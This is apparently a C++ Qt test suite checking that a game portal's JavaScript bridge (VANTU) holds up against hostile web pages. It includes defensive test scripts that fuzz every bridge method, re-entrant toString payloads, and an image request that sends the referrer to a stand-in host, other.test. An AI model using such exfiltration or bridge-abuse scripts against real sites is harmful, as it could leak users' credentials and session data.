// SPDX-License-Identifier: MIT
#include "portal.h"

#include "addresswidget.h"
#include "mybutton.h"

#include "mbutton.h"
#include "mbuttongroup.h"
#include "mlabel.h"
#include "mmessagebox.h"
#include "mprogressindicator.h"
#include "mtextedit.h"

#include <QNetworkAccessManager>
#include <QNetworkReply>
#include <QWebFrame>

/// Pages are strangers: whatever one does to the bridge, the player keeps a working companion.
class StrangerPageTest : public QObject {
    Q_OBJECT

private slots:
    void oddValues_data()
    {
        QTest::addColumn<QString>("literal");
        QTest::addColumn<QString>("title");
        QTest::newRow("number") << QStringLiteral("42") << QStringLiteral("42");
        QTest::newRow("boolean") << QStringLiteral("true") << QStringLiteral("true");
        QTest::newRow("object") << QStringLiteral("{toString: function() { return 'odd'; }}") << QStringLiteral("odd");
        QTest::newRow("array") << QStringLiteral("['a', 'b']") << QStringLiteral("a,b");
        QTest::newRow("empty") << QStringLiteral("''") << QString();
        QTest::newRow("throwing") << QStringLiteral("{toString: function() { throw 'no'; }}")
                                  << QStringLiteral("before");
        QTest::newRow("very long") << QStringLiteral("Array(1000001).join('x')") << QString(1000000, QLatin1Char('x'));
        QTest::newRow("markup") << QStringLiteral("'<b>bold</b> &amp;'") << QStringLiteral("<b>bold</b> &amp;");
    }

    void oddValues()
    {
        QFETCH(QString, literal);
        Portal portal;
        portal.page->lblWebTitle->setText(QStringLiteral("before"));
        const auto all = [&literal] {
            QMap<QString, QString> variables;
            for (const char *name : {"sUserUid", "iInboxMessages", "iGamesMessages", "iFriendsMessages", "iGameId",
                                     "sSubject", "bIsFriend", "bShowAdd", "bShowEvaluate", "iUserId", "sUserName",
                                     "sTitle", "strUserName", "strPassword", "blnRememberMe"})
                variables.insert(QLatin1String(name), literal);
            return variables;
        };
        portal.loadPage(QStringLiteral("/vantu/games"), all());
        QTEST(portal.page->lblWebTitle->text(), "title");
        // Kept whole, but laid out only as far as it could ever be seen.
        constexpr qreal widest = 50000;
        QVERIFY(portal.page->lblWebTitle->effectiveSizeHint(Qt::PreferredSize).width() < widest);
        QVERIFY(MButton(portal.page->lblWebTitle->text()).effectiveSizeHint(Qt::PreferredSize).width() < widest);
        QVERIFY(!portal.page->progressIndicator->isVisible());
        portal.window.grab();
    }

    void slotsInsideSlots()
    {
        Portal portal;
        const QString hostile = QStringLiteral("{toString: function() { VANTU.on_pageLoadStarted();"
                                               " VANTU.on_pageLoadFinished(true); VANTU.on_pageLoadFinished(false);"
                                               " VANTU.showTitle(this); return 'deep'; }}");
        portal.loadPage(
            QStringLiteral("/vantu/friends"),
            {{QStringLiteral("sUserUid"), hostile}, {QStringLiteral("sTitle"), QStringLiteral("'Friends'")}});
        QCOMPARE(portal.page->lblWebTitle->text(), QStringLiteral("Friends"));
        QVERIFY(portal.page->btnAdd->isVisible());
        QVERIFY(!portal.page->progressIndicator->isVisible());
    }

    void everySlotAtAnyTime()
    {
        Portal portal;
        TestPage &page = *portal.page;
        portal.load(QStringLiteral("/vantu/info/"), R"(<body><script>
            var arguments_ = [undefined, null, 0, -1, 1e300, NaN, 'text', {}, [], function() {}, VANTU, window];
            for (var name in VANTU) {
                if (typeof VANTU[name] != 'function' || /quit|SelectButton|deleteLater|destroyed/i.test(name))
                    continue;
                for (var i = 0; i < arguments_.length; ++i) {
                    try { VANTU[name](arguments_[i]); } catch (e) {}
                    try { VANTU[name](); } catch (e) {}
                }
            }
            for (var id = 3; id < 10; ++id)
                VANTU.on_SelectButtonClicked(id);
        </script>)");
        QTRY_VERIFY(!page.progressIndicator->isVisible());
        // Whatever state that left: cancel and a tab lead back to a usable page.
        for (int i = 0; i < 10 && page.state != Normal; ++i)
            page.on_SelectButtonClicked(7);
        QCOMPARE(page.state, Normal);
        portal.loadPage(QStringLiteral("/vantu/"));
        QVERIFY(page.btnQuit->isVisible());
        QVERIFY(page.isVisible());
    }

    void scriptsReachTheSlotsOnly()
    {
        Portal portal;
        portal.load(QStringLiteral("/vantu/"), R"(<script>
            VANTU.enabled = false;
            var found = [];
            for (var name in VANTU)
                found.push(name.replace(/\(.*/, ''));
            ['deleteLater', 'destroyed', 'objectName', 'visible', 'layoutDirection', 'parent', 'close', 'appear', '']
                .forEach(function(name) { if (VANTU[name] !== undefined) found.push('reached ' + name); });
        </script>)");
        const QMetaObject &meta = VantuPage::staticMetaObject;
        QStringList expected{QStringLiteral("enabled")}; // Of the script's own making.
        for (int i = meta.methodOffset(); i < meta.methodCount(); ++i)
            expected << QString::fromLatin1(meta.method(i).name());
        QStringList found = portal.page->webView->page()
                                ->mainFrame()
                                ->evaluateJavaScript(QStringLiteral("found.join(' ')"))
                                .toString()
                                .split(QLatin1Char(' '));
        expected.sort();
        found.sort();
        QCOMPARE(found, expected);
        QVERIFY(portal.page->isEnabled() && portal.page->btnHome->isEnabled());
    }

    void otherHostsLearnNothing_data()
    {
        QTest::addColumn<QString>("body");
        QTest::newRow("link") << QStringLiteral(
            "<script>onload = function() { location = 'http://other.test/'; }</script>");
        QTest::newRow("redirection") << QStringLiteral("<script>onload = function() { location = '/away'; }</script>");
        QTest::newRow("post") << QStringLiteral("<form method='post' action='http://other.test/'></form>"
                                                "<script>onload = function() { document.forms[0].submit(); }</script>");
        QTest::newRow("frame") << QStringLiteral("<iframe src='http://other.test/'></iframe>");
        QTest::newRow("picture and page without a host")
            << QStringLiteral("<img src='http://other.test/picture'><script>onload = function() { location ="
                              " 'data:text/html,' + escape(\"<script>new Image().src ="
                              " 'http://other.test/saw?' + document.referrer + ',' + typeof VANTU;</\" + 'script>'); }"
                              "</script>");
    }

    void otherHostsLearnNothing()
    {
        QFETCH(QString, body);
        Portal portal;
        portal.service.answer(QStringLiteral("/away"), {{}, 302, "http://other.test/"});
        portal.service.answerUrl(QStringLiteral("http://other.test/"), {R"(<body><script>
            var sTitle = 'stranger', sUserUid = 'stranger';
            var frame = document.createElement('iframe');
            document.body.appendChild(frame);
            var theirs = frame.contentWindow;
            var getter = theirs.Object.getOwnPropertyDescriptor(theirs.Document.prototype, 'referrer').get;
            new Image().src = '/saw?' + document.referrer + getter.call(document) + ',' + typeof VANTU;
        </script>)"});
        portal.load(QStringLiteral("/vantu/?username=alice&pass=secret"),
                    TestService::page({{QStringLiteral("sTitle"), QStringLiteral("'service'")}}, body));
        QTRY_VERIFY2(portal.service.urls().contains(QStringLiteral("http://other.test/saw?,undefined")),
                     qPrintable(portal.service.urls().join(QLatin1Char('\n'))));
        QTRY_VERIFY(!portal.page->progressIndicator->isVisible());
        for (const TestService::Request &request : portal.service.requests())
            QVERIFY2(request.url.startsWith(Portal::url(QString())) || !request.referer.contains("vantu.test"),
                     qPrintable(request.url));
        QVERIFY(portal.page->lblWebTitle->text() != QLatin1String("stranger"));
        QCOMPARE(portal.page->userID, QString());
    }

    void loadsFromInsideTheBridge()
    {
        Portal portal;
        portal.service.answer(QStringLiteral("/vantu/games"), {TestService::page({})});
        const QString hostile = QStringLiteral(
            "{toString: function() { VANTU.on_ToggleButtonClicked(3); VANTU.attachObjectToJS(); return 'p1'; }}");
        portal.loadPage(QStringLiteral("/vantu/friends"), {{QStringLiteral("sUserName"), hostile}});
        QTRY_COMPARE(portal.shownUrl(), Portal::url(QStringLiteral("/vantu/games")));
        QTRY_VERIFY(!portal.page->progressIndicator->isVisible());
    }

    void onlyTheLastWishIsLoaded()
    {
        Portal portal;
        for (const char *path : {"/vantu/", "/vantu/games", "/vantu/friends"})
            portal.service.answer(QLatin1String(path), {TestService::page({})});
        portal.load(QStringLiteral("/vantu/info/"),
                    "<script>for (var i = 0; i < 2000; ++i) { VANTU.on_ToggleButtonClicked(3);"
                    " VANTU.on_SelectButtonClicked(0); VANTU.on_ToggleButtonClicked(2); }</script>");
        QTRY_COMPARE(portal.shownUrl(), Portal::url(QStringLiteral("/vantu/friends")));
        QTRY_VERIFY(!portal.page->progressIndicator->isVisible());
        QCOMPARE(
            portal.service.urls(),
            (QStringList{Portal::url(QStringLiteral("/vantu/info/")), Portal::url(QStringLiteral("/vantu/friends"))}));
    }

    void loadsFromInsideAFocusHandler()
    {
        Portal portal;
        portal.service.answer(QStringLiteral("/vantu/games"), {TestService::page({})});
        portal.load(QStringLiteral("/vantu/info/"),
                    "<input autofocus onfocus='VANTU.on_ToggleButtonClicked(3)'>"
                    "<script>window.onblur = function() { VANTU.on_ToggleButtonClicked(3); }</script>");
        QTRY_COMPARE(portal.shownUrl(), Portal::url(QStringLiteral("/vantu/games")));
        portal.page->openSendMessagePage();
        portal.page->on_SelectButtonClicked(7);
        QTRY_VERIFY(!portal.page->progressIndicator->isVisible());
    }

    void scriptsOfAnEndingPage_data()
    {
        QTest::addColumn<QString>("handler");
        QTest::newRow("unload") << QStringLiteral("onunload");
        QTest::newRow("pagehide") << QStringLiteral("onpagehide");
    }

    void scriptsOfAnEndingPage()
    {
        QFETCH(QString, handler);
        Portal portal;
        portal.load(
            QStringLiteral("/vantu/info/"),
            QStringLiteral("<script>window.%1 = function() { VANTU.on_pageLoadStarted(); VANTU.showTitle('end');"
                           " VANTU.on_pageLoadFinished(true); }</script>")
                .arg(handler)
                .toUtf8());
        portal.page.reset();
    }

    void oneWarningAtATime()
    {
        Portal portal;
        portal.load(QStringLiteral("/vantu/info/"),
                    "<script>for (var i = 0; i < 50; ++i) VANTU.on_SelectButtonClicked(8)</script>");
        int boxes = 0;
        for (QGraphicsItem *item : portal.window.scene()->items())
            boxes += dynamic_cast<MMessageBox *>(item) ? 1 : 0;
        QCOMPARE(boxes, 1);
    }

    void onlyThePlayerSends()
    {
        Portal portal;
        TestPage &page = *portal.page;
        portal.load(QStringLiteral("/vantu/info/"), {});
        page.openSendMessagePage();
        page.addrWidget->addNewUIDAddress(QStringLiteral("Ann"), QStringLiteral("p1"));
        page.txtMessage->setText(QStringLiteral("not ready"));
        page.webView->page()->mainFrame()->evaluateJavaScript(QStringLiteral("VANTU.on_SelectButtonClicked(8)"));
        QCOMPARE(page.state, SendMessageState);
        QCOMPARE(page.txtMessage->text(), QStringLiteral("not ready"));
        QVERIFY(page.nwAccessMgr->findChildren<QNetworkReply *>().isEmpty());
        page.on_SelectButtonClicked(8);
        QCOMPARE(page.state, Normal);
        QCOMPARE(page.nwAccessMgr->findChildren<QNetworkReply *>().size(), 1);
    }
};

PORTAL_TEST_MAIN(StrangerPageTest)
#include "tst_strangerpage.moc"
